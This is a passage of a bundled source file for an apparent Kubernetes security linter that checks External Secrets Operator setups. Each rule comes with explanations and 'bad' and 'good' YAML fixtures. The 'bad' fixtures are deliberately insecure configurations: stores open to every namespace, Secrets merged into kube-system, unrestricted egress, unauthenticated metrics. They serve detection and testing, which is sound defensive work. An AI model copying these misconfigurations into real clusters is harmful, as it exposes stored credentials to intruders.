  template:
    metadata:
      annotations: { prometheus.io/scrape: "true", prometheus.io/port: "8080" }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  *checkInstall({ controller, namespace }, world) {
    if (!controller || isScraped(controller.pod, world)) return;
    const where = namespace === void 0 ? "" : ` in namespace ${namespace}`;
    yield {
      object: null,
      path: [],
      missing: "monitoring.coreos.com/ServiceMonitor",
      message: `no ServiceMonitor, PodMonitor or scrape annotation in the set leads to the controller of External Secrets Operator${where}`
    };
  },
  fix: (fault) => unsafe(PROMETHEUS2, chartValues(fault, { "serviceMonitor.enabled": true }))
});
var PROMETHEUS2 = "Does the Prometheus Operator run in this cluster, and look into the namespace of the operator?";

// src/rules/unneeded-service-account-token.ts
var unneeded_service_account_token_default = defineRule({
  id: "unneeded-service-account-token",
  title: "A pod with synced Secrets carries a ServiceAccount token that gives no rights",
  severities: ["low"],
  kinds: WORKLOAD_KINDS,
  why: "An intruder in the pod has a login at the API server beside the secrets: it shows what is installed, it may be trusted by a provider that takes tokens of the cluster, and it gains whatever somebody binds to the ServiceAccount later.",
  remedy: "Set `automountServiceAccountToken: false` in the pod’s spec or on its ServiceAccount. Tokens for a cloud (IRSA, workload identity) are mounted by themselves and stay.",
  references: [
    "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/#opt-out-of-api-credential-automounting",
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"
  ],
  guide: ["TM1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: shop }
spec:
  template:
    spec: # finding: its token of ServiceAccount shop/shop is mounted and gives no rights, beside the synced Secret db
      serviceAccountName: shop
      containers:
        - name: shop
          image: registry.example.com/shop:v1
          envFrom: [{ secretRef: { name: db } }]
---
apiVersion: v1
kind: ServiceAccount
metadata: { name: shop, namespace: shop }
---
# The pod's own word counts before its ServiceAccount's.
apiVersion: apps/v1
kind: Deployment
metadata: { name: jobs, namespace: shop }
spec:
  template:
    spec:
      automountServiceAccountToken: true # finding: its token of ServiceAccount shop/jobs is mounted and gives no rights
      serviceAccountName: jobs
      containers:
        - name: jobs
          image: registry.example.com/jobs:v1
          env: [{ name: PASSWORD, valueFrom: { secretKeyRef: { name: db, key: password } } }]
---
apiVersion: v1
kind: ServiceAccount
metadata: { name: jobs, namespace: shop }
automountServiceAccountToken: false
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: aws }
  data: [{ secretKey: password, remoteRef: { key: db } }]
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: aws }
  data: [{ secretKey: password, remoteRef: { key: db } }]
---
# Not mounted: the ServiceAccount says no, or the pod does.
apiVersion: v1
kind: ServiceAccount
metadata: { name: shop, namespace: shop }
automountServiceAccountToken: false
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: shop }
spec:
  template:
    spec:
      serviceAccountName: shop
      containers: [{ name: shop, image: "registry.example.com/shop:v1", envFrom: [{ secretRef: { name: db } }] }]
---
# It has rights.
apiVersion: v1
kind: ServiceAccount
metadata: { name: leader, namespace: shop }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: leader, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: leases }
subjects: [{ kind: ServiceAccount, name: leader }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: leader, namespace: shop }
spec:
  template:
    spec:
      serviceAccountName: leader
      containers: [{ name: shop, image: "registry.example.com/shop:v1", envFrom: [{ secretRef: { name: db } }] }]
---
# Its ServiceAccount is elsewhere, and so may be its rights.
apiVersion: apps/v1
kind: Deployment
metadata: { name: foreign, namespace: shop }
spec:
  template:
    spec:
      serviceAccountName: foreign
      containers: [{ name: shop, image: "registry.example.com/shop:v1", envFrom: [{ secretRef: { name: db } }] }]
---
# No synced Secret.
apiVersion: v1
kind: ServiceAccount
metadata: { name: plain, namespace: shop }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: plain, namespace: shop }
spec:
  template:
    spec:
      serviceAccountName: plain
      containers: [{ name: shop, image: "registry.example.com/shop:v1", envFrom: [{ secretRef: { name: other } }] }]
`,
    `
# Vault's agent signs in with the token that is mounted.
apiVersion: v1
kind: ServiceAccount
metadata: { name: injected, namespace: shop }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: injected, namespace: shop }
spec:
  template:
    metadata: { annotations: { vault.hashicorp.com/agent-inject: "true" } }
    spec:
      serviceAccountName: injected
      containers: [{ name: shop, image: "registry.example.com/shop:v1", envFrom: [{ secretRef: { name: db } }] }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: aws }
  data: [{ secretKey: password, remoteRef: { key: db } }]
`
  ],
  *check(manifest, world) {
    const pod = podOf(manifest);
    if (!pod || world.eso.componentOf(manifest) || !staysInstalled(manifest) || isInjected(pod)) return;
    const account = serviceAccountOf(pod, world);
    if (!account || !isMounted(pod, account) || hasRights(pod, world)) return;
    const [use] = syncedUsesOf(pod, world);
    if (!use) return;
    yield {
      path: [...pod.specPath, ...pod.spec.automountServiceAccountToken === void 0 ? [] : [MOUNT]],
      message: `its token of ${nameOfSubject(accountOf(pod))} is mounted and gives no rights, beside the synced Secret ${use.secret}`,
      related: [{ manifest: account, path: ["metadata", "name"], message: "its ServiceAccount" }]
    };
  },
  fix({ path }) {
    const field = path.at(-1) === MOUNT ? path : [...path, MOUNT];
    return unsafe(SHOWN, setting(field, false));
  }
});
var SHOWN = "Does the pod show its token to anybody but the API server, such as Vault, a cloud or a service mesh?";
var MOUNT = "automountServiceAccountToken";
function serviceAccountOf({ manifest, serviceAccountName }, world) {
  if (isPlaceholder(serviceAccountName)) return void 0;
  return namedIn(world, "core/ServiceAccount", serviceAccountName, manifest.namespace).find(
    (account) => inSameNamespace(account, manifest)
  );
}
function isMounted({ spec }, account) {
  const said = spec[MOUNT] ?? account.get(MOUNT) ?? true;
  return said === true;
}
function hasRights(pod, { rbac }) {
  const subject = accountOf(pod);
  return [subject, ...implicitGroups(subject)].some((holder) => rbac.grantsTo(holder).length > 0) || bindsSomebodyLater(rbac);
}
var bindsSomebodyLater = remember(
  (rbac) => rbac.bindings.some((binding) => rbac.grantsIn(binding).some(({ subject }) => isPlaceholder(subject.name)))
);
function isInjected({ manifest, specPath }) {
  const annotations = asMapping(manifest.get(...specPath.slice(0, -1), "metadata", "annotations")) ?? {};
  return Object.keys(annotations).some((key) => key.startsWith("vault.hashicorp.com/agent-"));
}

// src/rules/unowned-target-secret.ts
var unowned_target_secret_default = defineRule({
  id: "unowned-target-secret",
  title: "An ExternalSecret writes a Secret that it does not own",
  severities: ["high", "low"],
  kinds: FETCHING_KINDS,
  why: "With Merge or CreateOrMerge the operator puts keys into a Secret that somebody else made, and takes over those that are there; with Orphan or None nothing ties the Secret to the ExternalSecret, so it stays when that is deleted. In a namespace that holds the cluster’s own Secrets this is a way to change or plant a credential.",
  remedy: "Set `target.creationPolicy: Owner` and let the ExternalSecret have a Secret of its own name; let the workload read both Secrets instead of one that is merged.",
  references: [
    "https://external-secrets.io/latest/guides/ownership-deletion-policy/",
    "https://external-secrets.io/latest/api/externalsecret/"
  ],
  guide: ["AC4"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: bootstrap, namespace: kube-system }
spec:
  target:
    name: cloud-credentials
    creationPolicy: Merge # finding: it changes keys of Secret cloud-credentials, which somebody else makes, in the sensitive namespace kube-system
  data: [{ secretKey: token, remoteRef: { key: token } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: sso, namespace: argocd }
spec:
  target:
    name: argocd-secret
    creationPolicy: Merge # finding[low]: it changes keys of Secret argocd-secret, which somebody else makes
  data: [{ secretKey: token, remoteRef: { key: token } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: left, namespace: shop }
spec:
  target:
    creationPolicy: Orphan # finding[low]: Secret left stays when the ExternalSecret is deleted
  data: [{ secretKey: token, remoteRef: { key: token } }]
`,
    `
# config: { sensitiveNamespaces: [payments] }
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: registry }
spec:
  namespaces: [shop, payments]
  externalSecretName: pull
  externalSecretSpec:
    target:
      creationPolicy: CreateOrMerge # finding: it changes keys of Secret pull, which somebody else may make, in the sensitive namespace payments
    data: [{ secretKey: token, remoteRef: { key: token } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: nothing, namespace: payments }
spec:
  target:
    creationPolicy: None # finding: nothing is written, so Secret nothing holds whatever somebody else puts there, in the sensitive namespace payments
  data: [{ secretKey: token, remoteRef: { key: token } }]
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: owner, namespace: kube-system }
spec:
  target: { creationPolicy: Owner, deletionPolicy: Delete }
  data: [{ secretKey: token, remoteRef: { key: token } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: by-default, namespace: kube-system }
spec:
  data: [{ secretKey: token, remoteRef: { key: token } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: later, namespace: kube-system }
spec:
  target: { creationPolicy: "\${POLICY}" }
  data: [{ secretKey: token, remoteRef: { key: token } }]
`
  ],
  *check(manifest, world) {
    const target = targetOf(manifest);
    const deed = target && deedOf(target);
    if (!target || deed === void 0) return;
    const namespace = targetNamespaces(manifest, world).find(({ name }) => world.isSensitiveNamespace(name))?.name;
    yield {
      path: [...target.path, "creationPolicy"],
      message: namespace === void 0 ? deed : `${deed}, in the sensitive namespace ${namespace}`,
      ...namespace === void 0 && { severity: "low" }
    };
  },
  fix: ({ path }) => unsafe(OWNERS, setting(path, "Owner"))
});
var OWNERS = "Does anybody else make or change this Secret, or need it when the ExternalSecret is gone? The operator replaces what is in it, and deletes it with the ExternalSecret.";
function deedOf({ kind = "object", name, creationPolicy }) {
  const target = name === void 0 ? `the ${kind}` : `${kind} ${name}`;
  switch (creationPolicy) {
    case "Merge":
      return `it changes keys of ${target}, which somebody else makes`;
    case "CreateOrMerge":
      return `it changes keys of ${target}, which somebody else may make`;
    case "Orphan":
      return `${target} stays when the ExternalSecret is deleted`;
    case "None":
      return `nothing is written, so ${target} holds whatever somebody else puts there`;
    default:
      return void 0;
  }
}

// src/rules/unpinned-provider-ca.ts
var unpinned_provider_ca_default = defineRule({
  id: "unpinned-provider-ca",
  title: "A store trusts every public authority for its service",
  severities: ["low", "info"],
  kinds: CONNECTED_KINDS,
  why: "Without `caBundle` or `caProvider` the operator believes any authority of its image. For a service of your own that is more than needed: a certificate that somebody got for its name elsewhere is accepted as well.",
  remedy: "Name the authority of the service in `caBundle`, or in `caProvider` with a ConfigMap or Secret that holds it.",
  references: ["https://external-secrets.io/latest/provider/hashicorp-vault/"],
  guide: ["NS3"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.vault.svc:8200 # finding: no authority is named for Vault at vault.vault.svc
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: public, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com # finding[info]: at vault.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.vault.svc:8200
      caProvider: { type: ConfigMap, name: vault-ca, key: ca.crt }
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.vault.svc:8200
      caBundle: \${VAULT_CA}
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`,
    `
# This provider has no field for an authority, and over http there is nothing to pin.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: connect, namespace: shop }
spec:
  provider:
    onepassword:
      connectHost: https://connect.tools.svc
      vaults: { shop: 1 }
      auth: { secretRef: { connectTokenSecretRef: { name: connect, key: token } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: plain, namespace: shop }
spec:
  provider:
    vault:
      server: http://vault.vault.svc:8200
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`
  ],
  *check(manifest, world) {
    const connected = connectedOf(manifest);
    const authorities = connected?.known?.ca ?? [];
    if (!connected || authorities.length === 0 || authorities.some((field) => isSet(connected.config, field))) return;
    for (const { path, scheme, host, isLocal: isLocal2 } of endpointsOf(manifest, world)) {
      if (scheme !== "https" || path.length === connected.path.length) continue;
      const message = `no authority is named for ${titleOf(connected)} at ${host}`;
      yield isLocal2 ? { path, message } : { path, message, severity: "info" };
    }
  }
});

// src/check/open-ingress.ts
var isOpenToAll2 = ({ pod }, { port }, { network }) => network.allows(pod, "ingress", STRANGER, at(port)) === "yes" || isMostOfInternet(network.admitted(pod, "ingress", at(port)));
var openedBy = (rule2, component, world) => listenersOf(component).filter(
  (listener) => takesPort(rule2.ports, at(listener.port)) === "yes" && (rule2.peers.takes(STRANGER) === "yes" || isMostOfInternet(rule2.peers.certain)) && isOpenToAll2(component, listener, world)
);
var at = (port) => ({ protocol: "TCP", port });
var listenersText = (listeners) => joined([...new Set(listeners.map(({ port, purpose }) => `${port} (${purpose})`))]);

// src/rules/unprotected-metrics.ts
var unprotected_metrics_default = defineRule({
  id: "unprotected-metrics",
  title: "Any pod can read the metrics of the operator",
  severities: ["low"],
  kinds: WORKLOAD_KINDS,
  needs: ["install"],
  why: "The metrics name every namespace, store and ExternalSecret, and tell which provider is called and when it fails: a map for whoever looks for the way to a secret. They are served in clear text to everyone who asks.",
  remedy: "Let only the monitoring connect to the port (`from` in `networkPolicy.ingress` of the operator chart and those of `webhook` and `certController`), or set `metrics.listen.secure.enabled` and `metrics.listen.auth.enabled` (2.5.0 on, for each component), which has the API server ask who is reading; the chart then makes a long-lived token for the controller’s ServiceAccount.",
  references: [
    "https://external-secrets.io/latest/api/metrics/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["NS1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - --metrics-addr=:8080 # finding: the controller shows its metrics on 8080 to any pod, without TLS and without asking who reads them
            - --loglevel=info
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: egress-only, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
`,
    `
# TLS alone keeps nobody from reading, and authentication alone does not work without TLS.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller # finding: on 8080 to any pod, without asking who reads them
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: [--metrics-secure=true]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: webhook
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - webhook
            - --metrics-addr=:9090 # finding: the webhook shows its metrics on 9090 to any pod, without TLS
            - --metrics-auth=true
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: ["--metrics-addr=:8080", --metrics-secure=true, --metrics-auth=true]
---
# Switched off.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: webhook
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: [webhook, "--metrics-addr=0"]
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: ingress, namespace: eso }
spec:
  podSelector: {}
  ingress:
    - from: [{ namespaceSelector: { matchLabels: { kubernetes.io/metadata.name: monitoring } } }]
      ports: [{ port: 8080 }]
`
  ],
  *check(workload, world) {
    const component = world.eso.componentOf(workload);
    const metrics = component && listenersOf(component).find(({ purpose }) => purpose === "metrics");
    if (!component || !metrics || !isOpenToAll2(component, metrics, world)) return;
    const flags = flagsOf(component);
    const lacking2 = [
      ...isOn(flags, "metrics-secure", false) ? [] : ["without TLS"],
      ...isOn(flags, "metrics-auth", false) ? [] : ["without asking who reads them"]
    ];
    if (lacking2.length === 0) return;
    yield {
      path: metrics.path,
      message: `the ${component.role} shows its metrics on ${metrics.port} to any pod, ${lacking2.join(" and ")}`
    };
  },
  fix: () => unsafe(READERS2, generated("network-policies"))
});
var READERS2 = "Does anything but the monitoring in this set read the metrics, and does the operator need other addresses than those of its stores?";

// src/check/open-store.ts
var circumstances = (store, world) => [
  ...ofProvider2(store),
  ...ofPushes(store, world),
  ...ofAuthors(store, world)
];
function ofProvider2(store) {
  const provider = providerOf(store);
  if (!provider) return [];
  const shared2 = replaceableCredentials(provider).filter(({ isShared }) => isShared);
  const foreign2 = foreignNamespaceIn(provider);
  return [
    ...shared2.map(({ credential, path }) => ({
      says: `it signs in with a stored ${credential.what} (${credential.field})`,
      related: [{ manifest: store, path, message: "the stored credential" }]
    })),
    ...(foreign2 ? [foreign2] : []).map(({ namespace, path }) => ({
      says: `it reads Secrets of namespace ${namespace}`,
      related: [{ manifest: store, path, message: "the other namespace" }]
    }))
  ];
}
var NAMED7 = 2;
function ofPushes(store, world) {
  const references = usersOf(store, world).filter(({ manifest }) => PUSHING_KINDS.includes(manifest.groupKind));
  const pushes = [...Map.groupBy(references, ({ manifest }) => manifest).values()].flatMap(([first]) => first ?? []);
  if (pushes.length === 0) return [];
  const named2 = shortened(
    pushes.map(({ manifest }) => nameOf(manifest)),
    NAMED7
  );
  const related = pushes.map(({ manifest, path }) => ({
    manifest,
    path,
    message: "pushed into the store here, see push-secret-to-open-store"
  }));
  return [{ says: `${joined(named2)} ${pushes.length > 1 ? "push" : "pushes"} into it`, related }];
}
function ofAuthors(store, world) {
  const { grants, allowed, circumstance } = authors(world);
  if (allowed.size === 0) return circumstance;
  return authoring(grants.filter((grant) => !allowed.get(grant)?.includes(store.name)));
}
var authors = remember((world) => {
  const grants = authorsSomewhere(world).filter(({ subject }) => !hasEverywhere(subject, CHANGE_STORES2, world.rbac));
  const allowed = new Map(
    grants.map((grant) => [grant, storesOfTeams(grant, world)]).filter(([, stores]) => stores.length > 0)
  );
  return { grants, allowed, circumstance: authoring(grants) };
});
var authoring = (grants) => grants.length === 0 ? [] : [{ says: `${holders(grants)} can create ExternalSecrets`, related: bindingsOf(grants) }];
var CHANGE_STORES2 = { group: ESO_GROUP, resource: "clustersecretstores", verbs: ["update", "patch"] };

// src/rules/unrestricted-cluster-store.ts
var unrestricted_cluster_store_default = defineRule({
  id: "unrestricted-cluster-store",
  title: "A ClusterSecretStore serves every namespace",
  severities: ["medium", "high"],
  kinds: [`${ESO_GROUP}/ClusterSecretStore`],
  needs: ["stores"],
  why: "Whoever may create an ExternalSecret in any namespace reads everything that the credential of this store reads, for the operator does not ask whose secret it is. In one stroke a developer, or an intruder in one namespace, has the secrets of all teams.",
  remedy: "List the namespaces that may use the store under `spec.conditions` (`namespaces`, or a `namespaceSelector` on labels that only operators set), or give each team a SecretStore of its own.",
  references: [
    "https://external-secrets.io/latest/api/clustersecretstore/",
    "https://external-secrets.io/latest/guides/multi-tenancy/"
  ],
  guide: ["NI2", "TM6"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: no-conditions }
spec: # finding: it has no conditions, so every namespace can use it
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: empty }
spec:
  conditions: [] # finding: every namespace can use it
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`,
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: stored-token }
spec: # finding[high]: it signs in with a stored token (auth.tokenSecretRef)
  provider:
    vault:
      server: https://vault.example.com
      auth: { tokenSecretRef: { name: vault, namespace: eso, key: token } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: other-namespace }
spec: # finding[high]: it reads Secrets of namespace payments
  provider:
    kubernetes:
      remoteNamespace: payments
      auth: { serviceAccount: { name: reader, namespace: eso } }
`,
    `
# Without a namespace in the reference, each namespace signs in with a Secret of its own.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: own-token }
spec: # finding: every namespace can use it
  provider:
    vault:
      server: https://vault.example.com
      auth: { tokenSecretRef: { name: vault, key: token } }
`,
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared, labels: { team: shop } }
spec: # finding[high]: PushSecret shop/by-name, PushSecret shop/by-label and 1 more push into it
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: by-name, namespace: shop }
spec:
  secretStoreRefs: [{ kind: ClusterSecretStore, name: shared }]
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: by-label, namespace: shop }
spec:
  secretStoreRefs: [{ kind: ClusterSecretStore, labelSelector: { matchLabels: { team: shop } } }]
---
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: everywhere }
spec:
  pushSecretSpec:
    secretStoreRefs: [{ kind: ClusterSecretStore, labelSelector: {} }]
`,
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec: # finding[high]: Group developers (in namespace shop) can create ExternalSecrets
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: developer, namespace: shop }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developer, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: developer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# A team may use the store in its own namespaces, as the config says: whoever else may is what makes it worse.
# config: { teams: { shop: { namespaces: [shop], subjects: [{ kind: Group, name: shop }], stores: [shared] } } }
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec: # finding[medium]: every namespace can use it
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: other }
spec: # finding[high]: Group shop (in namespace shop) can create ExternalSecrets
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: developer, namespace: shop }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developer, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: developer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: shop }
`,
    `
# The labels of the operator's chart alone say nobody's name, and whoever may change the store is not held by conditions.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec: # finding: every namespace can use it
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-edit, labels: { rbac.authorization.k8s.io/aggregate-to-edit: "true" } }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [create, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: everything }
rules:
  - apiGroups: ["*"]
    resources: ["*"]
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: everything }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: everything }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: platform }
`,
    `
# A binding of the built-in role edit does name somebody.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec: # finding[high]: Group shop (in namespace shop) can create ExternalSecrets
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-edit, labels: { rbac.authorization.k8s.io/aggregate-to-edit: "true" } }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: edit, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: shop }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: for-shop }
spec:
  conditions:
    - namespaces: [shop]
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
# An entry that says nothing takes no namespace at all.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: for-nobody }
spec:
  conditions: [{}]
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`,
    `
# What is filled in later is unknown.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: later }
spec:
  conditions: \${STORE_CONDITIONS}
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
# An overlay's patch: the conditions stand in what it changes.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: patch }
spec:
  refreshInterval: 60
`,
    `
# A SecretStore serves its own namespace only.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`
  ],
  *check(store, world) {
    if (!isWhole(store) || !isUnconditional(store)) return;
    const worse = circumstances(store, world);
    yield {
      path: ["spec", "conditions"],
      message: ["it has no conditions, so every namespace can use it", ...worse.map(({ says: says2 }) => says2)].join("; "),
      ...worse.length > 0 && { severity: "high", related: worse.flatMap(({ related }) => related) }
    };
  },
  fix: (fault) => namedConditions(fault)
});

// src/rules/unrestricted-egress.ts
var unrestricted_egress_default = defineRule({
  id: "unrestricted-egress",
  title: "A network policy lets the operator connect to every address",
  severities: ["high", "medium"],
  kinds: POLICY_KINDS,
  needs: ["install"],
  why: "The operator holds provider credentials and Secrets. Whoever takes over its pod, or may write a store that names a server, sends what it holds to an address of their own: a policy that lets it connect to the whole internet does not stand in the way.",
  remedy: "In `networkPolicy.egress` of the operator chart (or in your own policy) name under `to` the addresses of the providers, the API server and the DNS of the cluster, each with its port. Where a provider’s addresses change, use a policy by name (`toFQDNs` of Cilium, `domains` of Calico) or a proxy. Whoever runs the network knows the addresses.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/services-networking/network-policies/#networkpolicy-resource"
  ],
  guide: ["NS2", "TM1"],
  bad: [
    `
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress:
    - ports: [{ port: 53, protocol: UDP }, { port: 53, protocol: TCP }]
    - {} # finding: it lets the controller connect to every address of the internet on every port
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# Exceptions for private addresses leave the internet open, and two halves of it are the whole.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress:
    - to: # finding[medium]: it lets the controller connect to every address of the internet on TCP 443 and 8200-8201
        - ipBlock: { cidr: 0.0.0.0/0, except: [10.0.0.0/8, 169.254.0.0/16] }
      ports: [{ port: 443 }, { port: 8200, endPort: 8201 }]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: halves, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress:
    - to: # finding: every address of the internet on every port
        - ipBlock: { cidr: 0.0.0.0/1 }
        - ipBlock: { cidr: 128.0.0.0/1 }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# Names alone may be looked up anywhere: a range that begins or ends with their port is more than that.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress:
